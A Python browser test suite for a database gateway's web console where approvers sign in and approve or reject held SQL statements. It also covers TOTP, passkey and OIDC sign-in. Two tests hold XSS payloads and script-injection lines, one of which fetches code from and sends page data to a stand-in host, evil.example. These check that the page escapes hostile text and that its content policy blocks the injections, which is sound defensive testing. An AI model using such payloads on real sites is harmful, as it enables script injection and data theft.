"""The page for people who decide, in a real browser.

These run where a Chromium is found; elsewhere they are skipped and say what is missing.
"""

import asyncio
import contextlib
from collections.abc import AsyncIterator, Sequence
from pathlib import Path
from typing import Any, LiteralString

import psycopg
import pyotp
import pytest

from gateway.api.server import ManagementServer
from gateway.config import Role
from gateway.holds import Hold, HoldState
from gateway.passkey_proof import check_approval
from gateway.store import Grantable, GrantTerms
from rules import Act, Affected, Demand, Escalation, Intent, Stage
from tests.gateway.management import PASSWORD, Desk, management, signing_in_by
from tests.support.browser import MISSING, Browser, Page, chromium, open_browser
from tests.support.gateway import SHOP_POLICY, make_config, running_gateway
from tests.support.oidc import oidc_server
from tests.support.ports import free_port
from tests.support.postgres import Postgres

PROGRAM = chromium()
pytestmark = [pytest.mark.skipif(PROGRAM is None, reason=MISSING), pytest.mark.timeout(90)]

MARKUP = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
LIVE = "document.querySelector('#link').textContent === 'Live'"


@pytest.fixture
async def browser() -> AsyncIterator[Browser]:
    assert PROGRAM is not None
    async with open_browser(PROGRAM) as opened:
        yield opened


@pytest.fixture
async def desk(tmp_path: Path) -> AsyncIterator[Desk]:
    async with management(tmp_path, admin={"port": free_port()}) as running:
        yield running


async def sign_in(page: Page, desk: Desk, user: str, address: str = "/") -> None:
    """Sign in by password, as a person does."""
    await page.goto(f"{desk.url}{address}")
    await page.type("#user", user)
    await page.type("#password", PASSWORD)
    await page.press("Enter")
    await page.until(LIVE)
    # The browser notes the 401 by which the page finds out that nobody is signed in.
    page.problems.clear()


async def cards(page: Page, number: int) -> None:
    """Return once so many holds are shown as waiting."""
    await page.until(f"document.querySelectorAll('#pending .hold').length === {number}")


@contextlib.asynccontextmanager
async def under_way(
    client: psycopg.AsyncConnection[Any], sql: LiteralString, values: Sequence[object] | None = None
) -> AsyncIterator[asyncio.Task[psycopg.AsyncCursor[Any]]]:
    """A statement that waits for its answer, given up where the page fails: or else the client never closes."""
    running = asyncio.ensure_future(client.execute(sql, values))
    try:
        yield running
    finally:
        running.cancel()


async def test_the_whole_story(browser: Browser, tmp_path: Path, postgres: Postgres, database: str) -> None:
    """A sign-in link, an empty list, an approval and a rejection, with a real client at the other end."""
    async with (
        running_gateway(tmp_path, make_config(postgres, SHOP_POLICY)) as gateway,
        await gateway.psycopg(database, application_name="a tool") as client,
    ):
        page = await browser.page()
        await page.goto(await gateway.gateway.management.sign_in_link("carol"))
        assert "This link signs you in on this browser. It works once." in await page.text("main")
        await page.click("button")
        await page.until(LIVE)
        assert await page.text("#who-name") == "carol (approver, viewer)"
        assert await page.text("#pending-none") == "Nothing waits. A held statement appears here by itself."
        assert await page.text("#recent-none") == "Nothing yet."

        async with under_way(client, "DELETE FROM customer WHERE customer_id = %s", [42]) as deleting:
            await cards(page, 1)
            assert await page.text(".title") == f"DELETE by postgres on {database}"
            assert await page.text(".sql") == "DELETE FROM customer WHERE customer_id = $1"
            assert await page.text(".values") == "42"
            assert await page.text(".origin") == "127.0.0.1, a tool"
            await page.until("document.querySelector('.countdown').innerText.startsWith('expires in 14:5')")
            assert await page.evaluate("document.title") == "(1) Holdgate"

            await page.click(".approve")
            assert (
                await page.text(".question")
                == "Approve this DELETE by postgres? It runs at once, exactly as shown."
            )
            await page.click(".yes")
            assert (await deleting).statusmessage == "DELETE 1"
        await cards(page, 0)
        assert await page.text("#banner") == "Approved: DELETE by postgres."
        await page.until("document.querySelector('#recent tbody tr')?.innerText.includes('DELETE 1')")
        row = await page.text("#recent tbody tr")
        assert "approved" in row
        assert "$1 = 42" in row

        async with under_way(client, "SELECT email FROM customer") as reading:
            await cards(page, 1)
            await page.click(".reject")
            assert await page.text(".hold .error") == "Say why: the requester reads the reason."
            await page.type(".reason", "ask for a single customer instead")
            await page.click(".reject")
            await page.click(".yes")
            with pytest.raises(
                psycopg.errors.InsufficientPrivilege, match="rejected by carol: ask for a single"
            ):
                await reading
        await page.until("document.querySelector('#recent tbody tr').innerText.includes('nothing was run')")
        assert "ask for a single customer instead" in await page.text("#recent tbody tr")
        assert page.problems == []


async def test_the_approver_sees_what_it_would_do(
    browser: Browser, tmp_path: Path, postgres: Postgres, database: str
) -> None:
    inspect = {"databases": {"*": {"inspect": {"user": postgres.superuser}}}}
    async with (
        running_gateway(tmp_path, make_config(postgres, SHOP_POLICY, inspect)) as gateway,
        await gateway.psycopg(database) as client,
    ):
        page = await browser.page()
        await page.goto(await gateway.gateway.management.sign_in_link("carol"))
        await page.click("button")
        await page.until(LIVE)
        await client.execute("SELECT first_name FROM customer WHERE customer_id = 42")
        counts = await client.execute("SELECT count(*) FROM invoice WHERE customer_id = 42")
        ((invoices,),) = await counts.fetchall()
        async with under_way(client, "DELETE FROM customer WHERE customer_id = 42") as deleting:
            await page.until("document.querySelector('.impact:not([hidden])')")
            lines = (await page.text(".impact-lines")).split("\n")
            assert lines[0] == "delete 1 row of public.customer"
            rows = f"{invoices} row" + ("s" if invoices != 1 else "")
            assert lines[1].startswith(
                f"{rows} of public.invoice that refer to public.customer change with it"
            )
            assert lines[2].split(" of ")[1].startswith("public.invoice_line that refer to public.invoice")
            await page.click(".laid-out summary")
            assert await page.text(".formatted") == "DELETE FROM customer\nWHERE\n  customer_id = 42"
            await page.click(".before summary")
            assert "SELECT count(*) FROM invoice WHERE customer_id = 42" in await page.text(".recent")
            assert page.problems == []
            await page.click(".approve")
            await page.click(".yes")
            assert (await deleting).rowcount == 1


async def test_holds_about_the_same_people_are_shown_on_the_card_that_is_there(
    browser: Browser, desk: Desk
) -> None:
    export, deletion = ([Affected(act, "public.customer")] for act in (Act.EXPORT, Act.DELETE))
    first = await desk.open(affected=export, place="db", session_id="S-1")
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    assert await page.evaluate("document.querySelector('.conflicts-row').hidden")
    second = await desk.open(affected=deletion, place="db", session_id="S-2")
    await cards(page, 2)
    texts = "[...document.querySelectorAll('.conflicts')].map((one) => one.innerText).join('|')"
    waits = f"{first.id} of alice (pending) exports what this deletes: public.customer; this one waits until "
    waits += "it has ended"
    await page.until(
        f"{texts} === '{second.id} of alice (pending) deletes what this exports: public.customer|{waits}'"
    )
    assert page.problems == []


async def test_stages_are_shown_as_people_approve(browser: Browser, desk: Desk) -> None:
    stages = (Stage(("crew",)), Stage(("dpo",), 2, Escalation(("legal",), 0.5)))
    unmet = {"criterion": "ticket: X", "met": False, "why": "no ticket was given"}
    asked = {"criterion": "webhook: desk", "met": False, "outcome": "checking", "why": ""}
    hold = await desk.open(stages=stages, criteria=(unmet, asked), check_seconds=60.0)
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    shown = "document.querySelector('.stages').innerText"
    assert await page.evaluate(shown) == "crew; 1 still needed\n2 of dpo; 2 still needed; legal too later"
    assert (
        await page.text(".criteria")
        == "not met: ticket: X (no ticket was given)\nbeing checked: webhook: desk"
    )
    await desk.holds.checked(hold.id, [unmet, {**asked, "outcome": "denied", "why": "late\u200b"}], "ask", "")
    await page.until("document.querySelector('.criteria').innerText.includes('denied: webhook: desk')")
    assert not await page.evaluate("document.querySelector('.hidden-note').hidden")
    # carol has no say in the first stage but has in the second: she may reject.
    await page.click(".approve")
    question = await page.text(".question")
    assert question.endswith("It runs, exactly as shown, once everybody needed has approved.")
    await page.click(".yes")
    await page.until("document.querySelector('.hold .error').innerText.includes('takes a member of crew')")
    await decide(desk, hold, "bob", "crew")
    await page.until(f"{shown}.startsWith('crew; approved by bob')")
    await page.until(f"{shown}.includes('2 of dpo or legal; 2 still needed')")
    await page.click(".approve")
    await page.click(".yes")
    await page.until(
        "document.querySelector('#banner').innerText.startsWith('Your approval counts, more are needed')"
    )
    await page.until(f"{shown}.includes('approved by carol; 1 still needed')")
    await page.click(".approve")
    await page.click(".yes")
    await page.until("document.querySelector('.hold .error').innerText.includes('one person counts once')")
    await decide(desk, hold, "dave", "dpo")
    await cards(page, 0)


async def decide(desk: Desk, hold: Hold, who: str, group: str) -> None:
    await desk.holds.decide(
        hold.id,
        who=who,
        who_groups={group},
        who_roles={Role.APPROVER},
        approve=True,
        reason="",
        how="api",
    )


async def test_hostile_text_is_text(browser: Browser, desk: Desk) -> None:
    await desk.open(
        sql=f"SELECT '{MARKUP}' -- \u202e\x1b[2J\u200b\ud800",
        parameters=(MARKUP, None, "\u2066a\x00"),
        user=MARKUP,
        groups=(MARKUP,),
        application_name=MARKUP,
        database=MARKUP,
        relations=(MARKUP,),
        columns=(MARKUP,),
        rule=MARKUP,
        reason=MARKUP,
    )
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    for part in (".title", ".asker", ".database", ".origin", ".rule", ".why", ".effects", ".sql", ".values"):
        assert MARKUP in await page.text(part), part
    assert await page.text(".sql") == f"SELECT '{MARKUP}' -- \\u202e\\u001b[2J\\u200b\\ud800"
    assert "Look closely: " in await page.text(".hidden-note")
    # What was decided, and why, is shown as harmlessly.
    await page.type(".reason", MARKUP)
    await page.click(".reject")
    await page.click(".yes")
    await page.until("document.querySelector('#recent tbody tr')")
    assert (await page.text("#recent tbody tr")).count(MARKUP) >= 3
    assert await page.evaluate("window.hacked") is None
    assert await page.evaluate("document.querySelectorAll('main img, main script').length") == 0
    assert page.problems == []


async def test_the_policy_of_the_page_stops_what_would_get_in(browser: Browser, desk: Desk) -> None:
    page = await browser.page()
    await sign_in(page, desk, "carol")
    for attack in (
        "const s = document.createElement('script'); s.textContent = 'window.hacked = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')",
        "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"javascript:parent.hacked = 1\"></iframe>')",
        "const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)",
        "fetch('https://evil.example/?' + document.title).catch(() => 0)",
    ):
        page.problems.clear()
        await page.evaluate(f"(() => {{ {attack} }})()")
        async with asyncio.timeout(10):
            while not any("Content Security Policy" in problem for problem in page.problems):
                await asyncio.sleep(0.02)
    assert await page.evaluate("window.hacked") is None


async def test_who_cannot_decide_reads_why(browser: Browser, desk: Desk) -> None:
    # Names are one person's whatever their case: the page and the gateway agree about whose statement it is.
    hold = await desk.open(user="ALICE")
    for user, says in (
        ("vic", "Deciding takes the role approver."),
        ("erin", f"Deciding {hold.id} takes a member of dpo."),
        ("alice", "Nobody decides about their own statement."),
    ):
        page = await browser.page()
        await sign_in(page, desk, user)
        await cards(page, 1)
        assert await page.text(".cannot") == says
        for what in (".approve", ".reject", ".most"):
            assert not await page.visible(what), what
        assert await page.visible("#banner") is (user == "vic")


async def test_what_broke_the_glass_is_reviewed_by_somebody_else(browser: Browser, desk: Desk) -> None:
    sql = "DELETE FROM customer WHERE customer_id = $1 -- \u202e"
    hold = await desk.open(breaks_glass=True, sql=sql, intent=Intent(break_glass=f"on fire {MARKUP}"))
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await page.until("document.querySelectorAll('#reviews .review').length === 1")
    assert await page.text("#reviews-count") == "1"
    assert await page.text(".review .title") == "DELETE by alice on shop"
    assert await page.text(".review .result") == "not yet run"
    assert await page.text(".review .broke") == f"on fire {MARKUP}"
    assert await page.text(".review .sql") == sql.replace("\u202e", "\\u202e") + "\n$1 = 5"
    assert "1 character here would not be visible" in await page.text(".review .hidden-note")
    await desk.holds.claim(hold.id, hold.digest)
    await desk.holds.record_outcome(hold.id, "DELETE 1", 1, None, 1.0)
    await page.until("document.querySelector('.review .result').innerText === 'DELETE 1'")
    await page.click(".review .done")
    assert await page.text(".review .error") == "Say what you found."
    await page.type(".review .note", "seen, and in order")
    # Somebody whose statement it is, and somebody who could not have decided it, only look.
    for user, says in (
        ("alice", "Nobody decides about their own statement."),
        ("erin", f"Deciding {hold.id} takes a member of dpo."),
    ):
        other = await browser.page(360, 800)
        await sign_in(other, desk, user)
        await other.until("document.querySelector('.review .cannot:not([hidden])')")
        assert await other.text(".review .cannot") == says
        assert not await other.visible(".review .done")
        assert await other.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    # What is being typed stays there while things happen.
    await desk.open()
    await cards(page, 1)
    assert await page.evaluate("document.querySelector('.review .note').value") == "seen, and in order"
    await page.press("Enter")
    await page.until("document.querySelector('#reviews-section').hidden")
    assert await page.text("#banner") == "Reviewed: DELETE by alice."
    review = (await desk.holds.get(hold.id)).review
    assert review is not None
    assert (review.who, review.note) == ("carol", "seen, and in order")
    assert page.problems == []


async def test_whoever_comes_second_with_a_review_is_told(browser: Browser, desk: Desk) -> None:
    hold = await desk.open(breaks_glass=True, intent=Intent(break_glass="on fire"))
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await page.until("document.querySelector('.review .note')")
    desk.bus.detach(next(iter(desk.bus._subscriptions)))
    async with await desk.client("dave", Role.APPROVER) as dave:
        await dave.post(f"/api/v1/holds/{hold.id}/review", json={"note": "seen"})
    await page.type(".review .note", "seen too")
    await page.press("Enter")
    await page.until("document.querySelector('#banner').textContent.startsWith('Too late.')")
    await page.until("document.querySelector('#reviews-section').hidden")


async def test_it_fits_into_a_narrow_window(browser: Browser, desk: Desk) -> None:
    long = "x" * 400
    ended = await desk.open(sql=long, user=long, reason=long)
    await desk.holds.end(ended.id, HoldState.ABANDONED, long)
    await desk.open(
        sql=f"SELECT {long}\n" * 50,
        user=long,
        application_name=long,
        parameters=(long,) * 30,
        relations=(long,),
    )
    page = await browser.page(320, 640)
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    for width in (320, 480, 740, 1100):
        await page.resize(width, 640)
        assert await page.evaluate("document.documentElement.scrollWidth <= window.innerWidth"), width
    # Whatever the length of the statement, the buttons are on the page and can be pressed.
    await page.click(".approve")
    assert await page.visible(".yes")
    assert page.problems == []


async def test_it_can_be_used_without_a_mouse(browser: Browser, desk: Desk) -> None:
    hold = await desk.open()
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)

    async def tab_to(selector: str) -> None:
        for _ in range(20):
            if await page.evaluate(f"document.activeElement.matches('{selector}')"):
                return
            await page.press("Tab")
        raise AssertionError(f"{selector} is not reached by Tab")

    await tab_to(".approve")
    await page.press("Enter")
    assert await page.evaluate("document.activeElement.matches('.yes')")
    await page.press("Escape")
    assert await page.evaluate("document.activeElement.matches('.approve')")
    await page.press("Enter")
    await page.press("Enter")
    await cards(page, 0)
    assert (await desk.holds.get(hold.id)).state is HoldState.APPROVED
    # What has happened is said to whoever does not see it.
    assert await page.evaluate("document.querySelector('#banner').getAttribute('role')") == "alert"


@pytest.mark.parametrize("address", ["/#{}", "/holds/{}"])
async def test_a_link_in_a_notice_leads_to_its_hold(browser: Browser, desk: Desk, address: str) -> None:
    for _ in range(8):
        await desk.open(sql="SELECT 1\n" * 30)
    hold = await desk.open()
    page = await browser.page()
    await sign_in(page, desk, "carol", address.format(hold.id))
    await cards(page, 9)
    await page.until(f"document.activeElement.closest('.hold')?.dataset.id === '{hold.id}'")
    assert await page.evaluate("document.activeElement.getBoundingClientRect().top < window.innerHeight")
    await desk.holds.end(hold.id, HoldState.WITHDRAWN, "canceled")
    await cards(page, 8)
    await page.goto(f"{desk.url}/")
    await page.until(LIVE)
    await page.goto(f"{desk.url}{address.format(hold.id)}")
    await page.until("!document.querySelector('#banner').hidden")
    assert (
        await page.text("#banner")
        == f"{hold.id} does not wait any more. It may be among those that ended, below."
    )


async def test_signing_in_and_out(browser: Browser, desk: Desk) -> None:
    page = await browser.page()
    await page.goto(desk.url)
    await page.type("#user", "carol")
    await page.type("#password", "wrong")
    await page.press("Enter")
    await page.until("!document.querySelector('#sign-in-error').hidden")
    assert await page.text("#sign-in-error") == "The user name or the password is wrong."
    await page.type("#password", PASSWORD)
    await page.press("Enter")
    await page.until(LIVE)
    assert not await page.visible("#sign-in")
    await page.click("#sign-out")
    await page.until("!document.querySelector('#sign-in').hidden")
    assert await page.text("#banner") == "You have signed out."
    assert not await page.visible("#desk")


async def test_an_approval_that_takes_a_code(browser: Browser, tmp_path: Path) -> None:
    """From the first secret to the approval, in the page alone."""
    store = {"key": "0123456789abcdef0123456789abcdef"}
    async with management(tmp_path, admin={"port": free_port()}, store=store) as desk:
        desk.clock.ahead = 15 - desk.clock.now().timestamp() % 30
        hold = await desk.open(stages=(Stage(("dpo",), step_up=("totp",)),))
        page = await browser.page()
        await sign_in(page, desk, "carol")
        await cards(page, 1)
        assert "each proves who they are (totp)" in await page.text(".stages")

        await page.click("#security-open")
        await page.until("!document.querySelector('#totp-begin').hidden")
        assert "You have no authenticator" in await page.text("#security-state")
        await page.click("#totp-begin")
        await page.until("document.querySelector('#totp-secret').textContent")
        one_time = pyotp.TOTP((await page.text("#totp-secret")).replace(" ", ""))
        await page.type("#totp-code", "000000" if one_time.at(desk.clock.now()) != "000000" else "111111")
        await page.press("Enter")
        await page.until("!document.querySelector('#totp-error').hidden")
        assert "the code is wrong" in await page.text("#totp-error")
        await page.type("#totp-code", one_time.at(desk.clock.now()))
        await page.press("Enter")
        await page.until("document.querySelector('#security-state').textContent.includes('is set up')")
        assert await page.text("#totp-secret") == ""
        await page.click("#security-close")
        assert not await page.visible("#security")
        page.problems.clear()

        desk.clock.ahead += 90
        await page.click(".approve")
        await page.click(".yes")
        await page.until("document.querySelector('.hold .error').innerText")
        assert "This takes a proof that it is you" in await page.text(".hold .error")
        page.problems.clear()
        await page.click(".approve")
        await page.until("document.activeElement.classList.contains('totp')")
        await page.type(".totp", one_time.at(desk.clock.now()))
        await page.press("Enter")
        await cards(page, 0)
        (decision,) = (await desk.holds.get(hold.id)).decisions
        assert (decision.who, decision.how, decision.step_up) == ("carol", "console", "totp")
        assert page.problems == []


async def test_whoever_asked_confirms_it_first(browser: Browser, tmp_path: Path) -> None:
    store = {"key": "0123456789abcdef0123456789abcdef"}
    async with management(tmp_path, admin={"port": free_port()}, store=store) as desk:
        desk.clock.ahead = 15 - desk.clock.now().timestamp() % 30
        secret, _ = await desk.totp.begin("alice")
        one_time = pyotp.TOTP(secret)
        await desk.totp.confirm("alice", one_time.at(desk.clock.now()))
        desk.clock.ahead += 90
        hold = await desk.open(confirm="second-factor")
        approver, asker = await browser.page(360, 800), await browser.page()
        await sign_in(approver, desk, "carol")
        await sign_in(asker, desk, "alice")
        for page in (approver, asker):
            await cards(page, 1)
        assert await approver.text(".unconfirmed") == "alice has to confirm it before it can be approved."
        assert not await approver.visible(".approve")
        assert not await approver.visible(".own")
        assert not await approver.visible(".most")
        assert await approver.visible(".reject")
        assert await approver.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
        assert await asker.text(".unconfirmed") == "Confirm that you ask for this: nobody is asked before."
        await asker.type(".own-code", "000000")
        await asker.press("Enter")
        await asker.until("document.querySelector('.own-error').innerText.includes('the code is wrong')")
        await asker.type(".own-code", one_time.at(desk.clock.now()))
        await asker.click(".own-yes")
        await asker.until("document.querySelector('#banner').innerText.startsWith('Confirmed: ')")
        await asker.until("document.querySelector('.unconfirmed').hidden")
        await approver.until("document.querySelector('.approve').getClientRects().length")
        assert not await approver.visible(".unconfirmed")
        await approver.click(".approve")
        await approver.click(".yes")
        await cards(approver, 0)
        assert (await desk.holds.get(hold.id)).state is HoldState.APPROVED
        assert approver.problems == []


async def test_an_approval_that_is_signed_with_a_passkey(browser: Browser, tmp_path: Path) -> None:
    """A passkey is made and used by a real browser, with an authenticator that the browser plays."""
    port = free_port()
    admin = {"port": port, "public_url": f"http://localhost:{port}"}
    async with management(tmp_path, admin=admin) as desk:
        hold = await desk.open(stages=(Stage(("dpo",), step_up=("passkey",)),), digest="ab" * 32)
        page = await browser.page()
        await page.call("WebAuthn.enable")
        authenticator = {
            "protocol": "ctap2",
            "transport": "internal",
            "hasResidentKey": True,
            "hasUserVerification": True,
            "isUserVerified": True,
            "automaticPresenceSimulation": True,
        }
        await page.call("WebAuthn.addVirtualAuthenticator", options=authenticator)
        await page.goto(f"http://localhost:{port}/")
        await page.type("#user", "carol")
        await page.type("#password", PASSWORD)
        await page.press("Enter")
        await page.until(LIVE)
        await cards(page, 1)
        page.problems.clear()

        await page.click(".approve")
        await page.click(".yes")
        await page.until("document.querySelector('.hold .error').innerText")
        assert "you have no passkey; set one up first" in await page.text(".hold .error")
        page.problems.clear()

        await page.click("#security-open")
        for label in ("telephone", "laptop"):
            await page.type("#passkey-label", label)
            await page.press("Enter")
            if label == "telephone":
                await page.until("document.querySelectorAll('#passkeys li').length === 1")
        # The same authenticator makes no second one; it was asked to prove who adds it, and did.
        await page.until("!document.querySelector('#passkey-error').hidden")
        assert (await page.text("#passkeys li")).startswith("telephone, since ")
        await page.click("#security-close")
        page.problems.clear()

        await page.click(".approve")
        assert not await page.visible(".totp")
        await page.click(".yes")
        await cards(page, 0)
        (decision,) = (await desk.holds.get(hold.id)).decisions
        assert (decision.who, decision.how, decision.step_up) == ("carol", "console", "passkey")
        assert decision.proof is not None
        check_approval(decision.proof, hold_id=hold.id, digest="ab" * 32, who="carol")
        assert page.problems == []


async def test_signing_in_through_a_provider_and_out(browser: Browser, tmp_path: Path) -> None:
    async with oidc_server() as provider, management(tmp_path, **signing_in_by(provider)) as desk:
        hold = await desk.open()
        page = await browser.page()
        await page.goto(f"{desk.url}/#{hold.id}")
        await page.until("!document.querySelector('#oidc').hidden")
        assert await page.text("#oidc-link") == "Sign in with Acme"
        await page.click("#oidc-link")
        # This is the provider's page.
        await page.type("#login", "zoe")
        await page.click("#go")
        await page.until(LIVE)
        assert await page.text("#who-name") == "zoe (approver, viewer)"
        assert await page.evaluate("location.pathname") == f"/holds/{hold.id}"
        page.problems.clear()
        await page.click(".approve")
        await page.click(".yes")
        await cards(page, 0)
        (decision,) = (await desk.holds.get(hold.id)).decisions
        assert (decision.who, decision.how) == ("zoe", "console")

        await page.click("#sign-out")
        await page.until("!document.querySelector('#elsewhere').hidden")
        assert await page.text("#banner") == "You have signed out here, but not where you signed in."
        there = await page.evaluate("document.querySelector('#elsewhere-link').href")
        assert there.startswith(f"{provider.issuer}/logout?id_token_hint=")
        assert page.problems == []


async def test_somebody_whom_the_provider_refuses_reads_why(browser: Browser, tmp_path: Path) -> None:
    async with oidc_server() as provider, management(tmp_path, **signing_in_by(provider)) as desk:
        page = await browser.page()
        await page.goto(desk.url)
        await page.click("#oidc-link")
        await page.type("#login", MARKUP)
        await page.click("#go")
        await page.until("document.querySelector('[role=alert]')?.innerText")
        refused = "You are not signed in: the provider refused: access_denied: nobody of that name."
        assert await page.text("[role=alert]") == refused
        await page.click("main a")
        await page.until("!document.querySelector('#sign-in').hidden")


async def test_whoever_comes_second_is_told(browser: Browser, desk: Desk) -> None:
    hold = await desk.open()
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    await page.click(".approve")
    # Between the two presses somebody else was quicker; that this page hears of it is held back.
    desk.bus.detach(next(iter(desk.bus._subscriptions)))
    async with await desk.client("dave", Role.APPROVER) as dave:
        await dave.post(f"/api/v1/holds/{hold.id}/reject", json={"reason": "no"})
    await page.click(".yes")
    await page.until("document.querySelector('#banner').textContent.startsWith('Too late.')")
    assert await page.text("#banner") == "Too late. The hold is already rejected by dave."
    await cards(page, 0)


async def test_a_gateway_that_goes_and_comes_back(browser: Browser, desk: Desk) -> None:
    await desk.open()
    page = await browser.page()
    await sign_in(page, desk, "carol")
    await cards(page, 1)
    await desk.server.stop()
    await page.until("document.querySelector('#link').textContent.startsWith('Connection lost')")
    assert await page.evaluate("[...document.querySelectorAll('.decide button')].every((b) => b.disabled)")
    desk.server = ManagementServer(desk.server._services)
    await desk.server.start()
    try:
        # Browsers are signed in to one process; the page says so instead of showing what is old.
        await page.until("!document.querySelector('#sign-in').hidden")
        assert await page.text("#banner") == "You are signed out. Sign in to go on."
        # The name is still there.
        await page.until("document.activeElement.id === 'password'")
        await page.type("#password", PASSWORD)
        await page.press("Enter")
        await page.until(LIVE)
        await cards(page, 1)
    finally:
        await desk.server.stop()


async def test_what_waits_for_room_shows_its_place(browser: Browser, desk: Desk) -> None:
    page = await browser.page()
    await sign_in(page, desk, "carol")
    holds = [await desk.open() for _ in range(2)]
    for hold in holds:
        await desk.holds.decide(
            hold.id,
            who="carol",
            who_groups={"dpo"},
            who_roles={Role.APPROVER},
            approve=True,
            reason=None,
            how="api",
        )
        cap = Demand("one", "", 1, None)
        await desk.holds.line_up(hold.id, hold.id, [cap], desk.clock.now(), False)
    await page.until(
        "document.querySelector('#recent .state')?.innerText === 'approved, waits for room: place 1 of 1 (one)'"
    )
    await desk.holds.leave(holds[0].id, True)
    await page.until("document.querySelector('#recent .state').innerText === 'approved'")
    assert page.problems == []


async def test_a_grant_is_listed_and_revoked(browser: Browser, desk: Desk) -> None:
    page = await browser.page()
    await sign_in(page, desk, "carol")
    binding = desk.people.config.policy.binding(())
    limits = Grantable(3600, 5, "a" * 64, "b" * 64, "DELETE FROM t WHERE id = …", "", True, "", (), binding)
    hold = await desk.open(grantable=limits)
    await desk.holds.decide(
        hold.id,
        who="carol",
        who_groups={"dpo"},
        who_roles={Role.APPROVER},
        approve=True,
        reason=None,
        how="api",
        grant=GrantTerms(600),
    )
    await page.until("document.querySelector('#grants tbody tr')")
    row = await page.text("#grants tbody tr")
    assert "alice on shop" in row
    assert "DELETE FROM t WHERE id = …" in row
    assert "0 of 5 times" in row
    await page.click("#grants .revoke")
    await page.until("document.querySelector('#grants-section').hidden")
    (view,) = await desk.holds.grants.list()
    assert (view.state, view.grant.revoked_by) == ("revoked", "carol")
    assert page.problems == []
